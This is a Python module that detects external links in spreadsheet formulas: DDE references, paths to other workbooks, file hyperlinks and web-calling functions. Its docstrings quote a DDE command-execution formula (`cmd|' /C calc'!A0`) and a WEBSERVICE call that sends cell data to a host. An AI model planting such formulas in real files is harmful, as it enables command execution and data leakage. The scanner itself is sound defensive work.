"""What a formula text may reach outside the workbook — found in linear time.

    formula_links(formula) -> [target, ...]

Formulas come from cells, defined names, data validation and conditional
formatting of untrusted files and can be long (Excel allows 8,192 characters;
a crafted file has no limit), so nothing here backtracks: string literals are
removed with ``str.split('"')``, the remaining scans are single passes or
regular expressions without nested or overlapping quantifiers.

Reported: DDE (``cmd|' /C calc'!A0`` — Excel has no ``|`` operator, so any
``|`` outside a string literal is a DDE reference), references into another
workbook by path (``'C:\\dir\\[book.xlsx]Sheet'!A1``), ``HYPERLINK`` to a
file/UNC path, and the functions that fetch or call out: ``WEBSERVICE``,
``FILTERXML``, ``RTD``, ``CALL``, ``REGISTER``/``REGISTER.ID``.
"""

from __future__ import annotations

import re

__all__ = ["OUTWARD_FUNCTIONS", "formula_links", "might_link"]

#: functions that reach outside the workbook when recalculated
OUTWARD_FUNCTIONS = ("WEBSERVICE", "FILTERXML", "RTD", "CALL", "REGISTER.ID", "REGISTER")

_HYPERLINK_RE = re.compile(
    r'HYPERLINK\s*+\(\s*+"((?:file:|\\\\|//|[A-Za-z]:[\\/])[^"]*+)"', re.IGNORECASE
)
_FUNC_RE = re.compile(
    r"(?<![A-Za-z0-9_])(WEBSERVICE|FILTERXML|RTD|CALL|REGISTER(?:\.ID)?)\s*+\(", re.IGNORECASE
)
_PATH_PREFIX_RE = re.compile(r"[A-Za-z]:\\|\\\\|file:|https?:", re.IGNORECASE)

#: cheap pre-test on raw text: only formulas containing one of these are scanned
_MARKERS_RE = re.compile(r"[|\[]|HYPERLINK|WEBSERVICE|FILTERXML|RTD|CALL|REGISTER", re.IGNORECASE)


def might_link(formula: str) -> bool:
    """True when :func:`formula_links` could find something (a fast pre-filter)."""
    return _MARKERS_RE.search(formula) is not None


def _strip_strings(formula: str) -> str:
    """The formula with the contents of every string literal removed; linear.

    ``"a""b"`` (an escaped quote) splits into outside pieces with empty strings
    between, so the even pieces are always the text outside string literals
    (only the quote characters of a literal remain).
    """
    pieces = formula.split('"')
    return '""'.join(pieces[0::2])


def _external_reference(bare: str) -> str | None:
    """``'C:\\dir\\[book.xlsx]Sheet'!`` style references: path prefix, ``[book]``, then ``!``.

    The same language and the same text as ``'?(prefix)[^!]*\\[[^\\]]+\\][^!]*'?!`` (leftmost prefix; the
    last ``[`` before the prefix's first ``!`` that works — a book name may hold a ``!``: ``[a!b.xlsx]``), without
    its backtracking: a prefix whose segment fails lets every later prefix of that segment fail too.
    """
    last_bang = bare.rfind("!")
    pos = 0
    while last_bang >= 0:
        m = _PATH_PREFIX_RE.search(bare, pos)
        if m is None or m.start() >= last_bang:
            return None
        first_bang = bare.find("!", m.end())  # the text between the prefix and its "[" holds no "!"
        b = bare.rfind("[", m.end(), first_bang)
        while b != -1:
            close = bare.find("]", b + 1)
            if close > b + 1:  # "[", one or more characters that are not "]", "]"
                end = bare.find("!", close)
                if end != -1:
                    start = m.start() - 1 if m.start() > 0 and bare[m.start() - 1] == "'" else m.start()
                    return bare[start:end]
            b = bare.rfind("[", m.end(), b)
        pos = first_bang + 1
    return None


def formula_links(formula: str) -> list[str]:
    """External targets named by one formula (DDE, other workbooks, file links, web functions).

    >>> formula_links("=cmd|' /C calc'!A0")
    ["cmd|' /C calc'!A0"]
    >>> formula_links('=HYPERLINK("\\\\\\\\srv\\\\share\\\\a.xlsx","x")')
    ['\\\\\\\\srv\\\\share\\\\a.xlsx']
    >>> formula_links('=WEBSERVICE("http://example.com/?q="&A1)')
    ['函数 WEBSERVICE：WEBSERVICE("http://example.com/?q="&A1)']
    >>> formula_links("=SUM(G2:G5)")
    []
    """
    if not might_link(formula):
        return []
    found: list[str] = []
    found += _HYPERLINK_RE.findall(formula)
    bare = _strip_strings(formula)
    if "|" in bare:
        found.append(formula.lstrip("="))
    ref = _external_reference(bare)
    if ref:
        found.append(ref)
    names = dict.fromkeys(m.group(1).upper() for m in _FUNC_RE.finditer(bare))
    for name in names:
        found.append(f"函数 {name}：{formula.lstrip('=')[:200]}")
    return found
